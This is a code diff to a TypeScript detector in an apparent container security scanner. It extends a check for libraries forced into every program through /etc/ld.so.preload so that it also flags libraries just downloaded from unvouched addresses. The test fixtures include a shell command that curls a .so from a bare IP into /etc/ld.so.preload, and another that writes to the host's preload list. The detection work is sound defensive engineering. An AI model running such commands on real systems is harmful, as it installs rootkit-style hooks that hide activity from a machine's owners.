@@ -1,6 +1,8 @@
 import { elf } from '../analyzers/elf.ts';
 import { factsOf } from '../analyzers/facts-of.ts';
+import type { FetchEffect } from '../trace/effect.ts';
 import { literals, textOf } from '../trace/value.ts';
+import { type DestinationKind, destinationOf } from './destinations.ts';
 import type { Detector, FindingDraft, Scene } from './detector.ts';
 import { effectsOf } from './effects-of.ts';
 import { fileFinding } from './file-finding.ts';
@@ -12,13 +14,14 @@ import { clip, valueWords } from './wording.ts';
 /** A library forced into every program. */
 export const libraryPreload: Detector = {
   id: 'library-preload',
-  version: 2,
+  version: 3,
   title: 'Forces a library into other programs.',
   attack: ['T1574.006', 'T1014'],
   description: `
 \`/etc/ld.so.preload\` and \`LD_PRELOAD\` load a library into every program. Memory allocators use it openly (a *note* for a
 variable). Rootkits use it to hide: their library replaces the functions that list folders and processes. *Malicious* when the
-library does that, or the host's list is written; *suspicious* when \`/etc/ld.so.preload\` is written with a library that is
+library does that, the host's list is written, or the library was just downloaded from an address that nobody vouches for;
+*suspicious* when \`/etc/ld.so.preload\` is written with a library that is
 not in the image or lies in a temporary folder.
 `,
   fires: [
@@ -32,6 +35,16 @@ not in the image or lies in a temporary folder.
     {
       name: 'a list that came with the image',
       image: { files: { '/etc/ld.so.preload': '/lib/libx.so\n', '/lib/libx.so': { content: hider(), mode: 0o755 } } },
+    },
+    {
+      name: 'a library that was just downloaded',
+      image: {
+        cmd: [
+          'sh',
+          '-c',
+          'curl -s http://203.0.113.7/l.so -o /usr/local/lib/libp.so; echo /usr/local/lib/libp.so > /etc/ld.so.preload; exec app',
+        ],
+      },
     },
     { name: "the host's list", image: { cmd: ['sh', '-c', 'echo /tmp/x.so > /host/etc/ld.so.preload'] } },
     { name: 'an allocator', severity: 'note', image: { env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] } },
@@ -60,14 +73,31 @@ function written(scene: Scene): readonly FindingDraft[] {
     // A wrapper that hands on what it was given (`LD_PRELOAD=$LD_PRELOAD:$extra`) names no library.
     if (effect.how === 'environment' && /^[\s:]*$/.test(library)) return [];
     const hooks = hooksOf(scene, textOf(effect.library)?.trim());
+    const fetch = effect.how === 'file' ? downloadOf(scene, effect.stage, library) : undefined;
     return findingOf(scene, sighting, {
       threat: sighting.outside ? 'hostile' : threatOf(scene, library, hooks, effect.how),
+      paired: fetch && `The library was downloaded from ${valueWords(fetch.url, 80)}, which nobody vouches for.`,
       title: titleOf(valueWords(effect.library, 80), hooks, sighting.outside),
       because: hooks ? `It replaces ${hooks.join(', ')}.` : undefined,
-      effects: [effect.id],
+      effects: [effect.id, ...(fetch ? [fetch.id] : [])],
     });
   });
 }
+
+/** The download of a listed library in the same start, when whoever is behind the address does not say who that is. */
+function downloadOf(scene: Scene, stage: number, listed: string): FetchEffect | undefined {
+  const libraries = new Set(listed.split(/[\s:]+/).filter((library) => library.startsWith('/')));
+  if (libraries.size === 0) return undefined;
+  const { stages } = scene.story;
+  return effectsOf(scene, 'fetch').find((fetch) => {
+    const to = fetch.to && textOf(fetch.to);
+    if (to === undefined || !libraries.has(to)) return false;
+    if (fetch.stage !== stage && stages[fetch.stage]?.start !== stages[stage]?.start) return false;
+    return unvouched.has(destinationOf(fetch.url).kind);
+  });
+}
+
+const unvouched = new Set<DestinationKind>(['bare', 'onion', 'paste', 'throwaway', 'channel']);
 
 /** `/etc/ld.so.preload` as a file of the image. */
 function lying(scene: Scene): readonly FindingDraft[] {
